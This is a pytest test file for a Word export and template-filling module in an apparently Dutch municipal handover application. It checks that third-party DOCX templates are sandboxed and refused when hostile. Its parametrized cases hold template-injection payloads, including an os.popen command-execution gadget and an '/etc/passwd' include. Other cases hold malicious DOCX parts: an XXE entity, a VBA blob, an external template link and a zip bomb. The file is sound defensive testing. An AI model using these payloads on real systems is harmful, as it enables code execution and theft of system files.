"""The list in Word: ours, and a template of somebody else that may not do as it likes."""

import zipfile
from dataclasses import replace
from io import BytesIO

import docx
import msoffcrypto
import pytest

from fieldwork.domain.exchange import Exchange
from fieldwork.domain.handover import HandoverDocument
from fieldwork.domain.refusals import UnreadableFile
from fieldwork.exports import word

PASSWORD = "fiets dijk lepel wolk"


def template(*lines: str) -> bytes:
    """Return a template with these lines."""
    paper = docx.Document()
    for line in lines:
        paper.add_paragraph(line)
    content = BytesIO()
    paper.save(content)
    return content.getvalue()


def text_of(content: bytes) -> str:
    return "\n".join(one.text for one in docx.Document(BytesIO(content)).paragraphs)


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """Return a DOCX with a part added, or another in its place."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(made, "w") as new:
        for one in old.infolist():
            if one.filename != name:
                new.writestr(one, old.read(one))
        new.writestr(name, part)
    return made.getvalue()


def test_ours_holds_everybody_and_what_every_file_says_of_its_list(document: HandoverDocument):
    office = msoffcrypto.OfficeFile(BytesIO(word.write(document, PASSWORD)))
    office.load_key(password=PASSWORD)
    plain = BytesIO()
    office.decrypt(plain)
    paper = docx.Document(plain)
    said = word._all_text(paper)
    for row in document.rows:
        assert row.name in said
        assert row.reference in said
    for told in ("2026-014", "3f9a1c7be05d2468", "Wijkduik De Waterkant", "Omar", "Bewaren tot"):
        assert told in said
    assert paper.core_properties.title == "Overdracht 2026-014"


def test_a_template_of_the_gemeente_is_filled_in(document: HandoverDocument):
    own = template("Aan {{ lijst.aan }}", "{%p for p in personen %}", "{{ p.naam }}: {{ p.phone }}")
    with pytest.raises(UnreadableFile, match="fout in het sjabloon"):
        word.check_template(own)
    own = template(
        "Aan {{ lijst.aan | upper }}",
        "{%p for p in personen %}",
        "{{ loop.index }} {{ p.naam }}: {{ p.phone }}",
        "{%p endfor %}",
    )
    word.check_template(own)
    said = text_of(word.fill(own, document))
    assert "Aan WIJKTEAM ZUID" in said
    assert "1 Mw. G. de Vries: 06 1234 0001" in said
    assert "Controlecode 3f9a1c7be05d2468" in said


def test_words_of_people_are_words_and_never_a_template(document: HandoverDocument):
    odd = "{{ 7*7 }} {% for x in y %} {{ lijst }} <w:p/> & ]]>"
    rows = tuple(replace(row, name=odd, in_own_words=odd) for row in document.rows)
    said = text_of(word.fill(word.our_template(), replace(document, rows=rows)))
    assert odd in said
    assert "49" not in said


@pytest.mark.parametrize(
    "attack",
    [
        "{{ lijst.__class__.__mro__ }}",
        "{{ lijst.nummer.upper() }}",
        "{{ personen.append('x') }}",
        "{{ 'x' * 1000000000 }}",
        "{{ 9 ** 999999999 }}",
        "{{ '%s' % lijst.nummer }}",
        "{{ 'x' | center(1000000000) }}",
        "{{ lijst | attr('__class__') }}",
        "{{ cycler }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% for a in range(10) %}x{% endfor %}",
        "{% set ns = namespace(a=1) %}{{ ns.a }}",
    ],
)
def test_a_template_can_show_and_nothing_else(document: HandoverDocument, attack: str):
    hostile = replace(document, exchange=Exchange(template=template(attack)))
    with pytest.raises(UnreadableFile, match="sjabloon"):
        word.fill(hostile.exchange.template, hostile)
    with pytest.raises(UnreadableFile, match="sjabloon"):
        word.check_template(template(attack))


def test_what_is_not_there_is_left_open(document: HandoverDocument):
    asked = template("[{{ ''.__class__ }}{{ lijst.geheim }}{{ self }}{{ config }}]")
    said = text_of(word.fill(asked, document))
    assert said.startswith(("[]", "[<TemplateReference None>]"))


def test_a_template_that_goes_round_too_often_is_stopped(document: HandoverDocument):
    many = replace(document, rows=document.rows * 20)
    rounds = "{%% for %s in personen %%}"
    deep = "".join(rounds % name for name in "abcd") + "x" + "{% endfor %}" * 4
    with pytest.raises(UnreadableFile, match="niet mag"):
        word.fill(template(deep), many)


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("word/vbaProject.bin", b"x"),
        ("word/embeddings/oleObject1.bin", b"x"),
        ("word/extra.xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
        (
            "word/_rels/settings.xml.rels",
            b"<Relationships><Relationship Id='r' Type='t' TargetMode='External' "
            b"Target='https://elders.test/x.dotm'/></Relationships>",
        ),
        ("word/bomb.xml", b" " * 41_000_000),
    ],
)
def test_a_file_with_more_in_it_than_a_document_is_refused(name: str, part: bytes):
    with pytest.raises(UnreadableFile, match="Sjabloon"):
        word.check_template(with_part(template("x"), name, part))


def test_what_is_no_word_document_is_refused():
    for content in (b"", b"PK\x03\x04", b"%PDF-1.7", template("x")[:500], b"x" * 5_000_001):
        with pytest.raises(UnreadableFile, match="Sjabloon"):
            word.check_template(content)
